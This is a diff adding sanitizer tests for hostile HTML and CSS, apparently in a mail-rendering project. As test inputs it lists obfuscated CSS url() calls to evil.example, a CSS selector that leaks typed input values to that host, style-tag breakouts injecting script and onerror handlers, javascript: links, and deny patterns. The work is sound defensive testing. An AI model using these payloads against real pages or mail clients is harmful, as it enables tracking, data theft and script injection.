@@ -59,6 +59,107 @@ describe('hostile HTML', () => {
     expect(cleaned).not.toMatch(NEVER);
   });
 
+  // Each stands in a style attribute, and in a rule that meets the element.
+  it.each([
+    ['background:u\\72l(https://evil.example)'],
+    ['background:u\\000072 l(https://evil.example)'],
+    ['background:URL(https://evil.example) red'],
+    ['background:url/**/(https://evil.example)'],
+    ['background:red url( "https://evil.example" ) no-repeat,url(https://evil.example)'],
+    ['background:url(https://evil.example'],
+    ['background:url("https://evil.example'],
+    ['background:image-set("https://evil.example" 1x) red'],
+    ['background:-webkit-image-set(url(https://evil.example) 1x)'],
+    ['background:cross-fade(url(https://evil.example),red)'],
+    ['background:src("https://evil.example")'],
+    ['background-image:linear-gradient(red,url(https://evil.example))'],
+    ['background-image:linear-gradient(red,var(--evil))'],
+    ['list-style:square url(https://evil.example)'],
+    ['list-style-image:url(https://evil.example)'],
+    ['border-image:url(https://evil.example) 30'],
+    ['cursor:url(https://evil.example),auto'],
+    ['content:url(https://evil.example)'],
+    ['content:attr(title);quotes:"url(" ")"'],
+    ['filter:url(https://evil.example#x)'],
+    ['mask:url(https://evil.example);clip-path:url(#x)'],
+    ['-moz-binding:url(https://evil.example#x);behavior:url(x.htc)'],
+    ['width:expression(alert(1));height:e\\78pression(alert(1))'],
+    ['--evil:url(https://evil.example);background:var(--evil)'],
+    ['color:env(evil);width:attr(data-x px)'],
+    ['position:fixed;inset:0;z-index:99'],
+    ['p\\6fsition:absolute;POSITION:sticky;position :fixed'],
+    ['font-family:"url(https://evil.example)"'],
+    ["font-family:';position:fixed;x:'"],
+    ['font:12px "url(x)";src:url(https://evil.example)'],
+    ['@import url(https://evil.example);color:red'],
+    ['color:red;}*{position:fixed}'],
+    ['color:red</style><script>alert(1)</script>'],
+    ['color:"</style><img src=x onerror=alert(1)>"'],
+    ['color:red;/*;position:fixed'],
+    ['color:red\\'],
+    ['animation:evil 1s;transition:all 1s;transform:translate(-999px)'],
+    ['margin:-99px;top:0;left:0;inset:0;will-change:position'],
+  ])('a style is left out, or what is bad of it: %s', (style) => {
+    const attribute = style.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
+    const html = `<p style="${attribute}">x</p>`;
+    // Words of a style that was ended in its midst are shown as words, as in a browser.
+    const styles = (of: string) => [...shown(of, true).matchAll(/ style="([^"]*)"/g)].map(([, said]) => said).join(';');
+    for (const one of [
+      html,
+      `<style>p{${style}}</style><p>x</p>`,
+      `<style>p{${style}</style><p style="color:blue">x</p>`,
+    ]) {
+      expect(shown(one, true)).not.toMatch(/<(?!\/?p\b|img \/>)/);
+      expect(styles(one)).not.toMatch(
+        /url|evil|image-set|expression|import|position|z-index|content|attr|var\(|env\(|--|src|filter|mask|binding|behavior|animation|transition|transform|inset|-99|[\\<>{}]/i,
+      );
+    }
+  });
+
+  it.each([
+    ['in SVG', '<svg><style>p{color:red}</style></svg>'],
+    ['in MathML', '<math><style>p{color:red}</style></math>'],
+    ['in noscript', '<noscript><style>p{color:red}</style></noscript>'],
+    ['in a template', '<template><style>p{color:red}</style></template>'],
+    ['in a comment', '<!--<style>p{color:red}</style>-->'],
+    [
+      'of elsewhere',
+      '<link rel=stylesheet href="data:text/css,p{color:red}"><style src=x>@import "data:text/css,p{color:red}"</style>',
+    ],
+    ['in a title', '<title><style>p{color:red}</style></title>'],
+    ['that meets what a page has', '<style>:root,#root,.modal,body *:not(p){color:red}</style>'],
+    [
+      'that asks what is written',
+      '<style>input[value^=a]{background:url(https://evil.example/a)}p:has(i){color:red}</style>',
+    ],
+    ['that asks where the reader was', '<style>p:visited,p:hover,p:target{color:red}</style>'],
+  ])('a style block %s says nothing', (_, block) => {
+    expect(shown(`${block}<p>x</p>`)).toBe('<p>x</p>');
+  });
+
+  it('a style block is never in what a page is given, however it is written', () => {
+    for (const html of [
+      '<style>p{color:red}</style ><p>x</p>',
+      '<style><!--</style><p>x</p><!----></style>',
+      '<STYLE\n>p{}</sTyLe\n><p>x</p>',
+      '<style/><p>x</p></style><p>x</p>',
+      '<style><style>p{}</style></style><p>x</p>',
+      '<p>x</p><style>p{color:red',
+      '<style>p{}</style/x="><script>alert(1)</script>"><p>x</p>',
+      '<sty<style></style>le>p{}</style><p>x</p>',
+      '<style title="</style><script>alert(1)</script>">p{}</style><p>x</p>',
+    ])
+      expect(shown(html)).not.toMatch(/<(?!\/?p\b)/);
+  });
+
+  it('a map or an area names nothing of the page', () => {
+    const html = shown(
+      '<map name=document id=forms><area name=x id=y ping="https://evil.example" download href=" javascript:alert(1)" onfocus=alert(1) tabindex=0></map><img usemap="//evil.example#x" usemap="#y" ismap name=z>',
+      true,
+    );
+    expect(html).toMatch(/^<map name="mail-[\da-f]{12}-1"><area \/><\/map><img \/>$/);
+  });
+
   it('loads nothing from elsewhere unless asked to', () => {
     const html =
       '<img src="https://track.example/p.gif" alt="logo"><img src="//track.example/q.gif"><img src="/local">';
